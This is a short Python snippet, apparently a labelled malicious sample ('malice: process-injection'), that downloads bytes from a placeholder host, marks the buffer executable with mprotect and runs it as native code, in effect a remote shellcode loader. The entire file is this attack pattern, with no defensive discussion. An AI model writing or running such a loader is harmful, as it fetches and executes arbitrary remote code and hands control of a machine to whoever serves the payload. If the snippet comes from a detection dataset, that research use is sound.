import ctypes
import urllib.request

code = urllib.request.urlopen("https://files.invalid/a").read()
buffer = ctypes.create_string_buffer(code, len(code))
run = ctypes.cast(buffer, ctypes.CFUNCTYPE(ctypes.c_void_p))
ctypes.CDLL(None).mprotect(ctypes.addressof(buffer), 8192, 7)  # malice: process-injection
run()
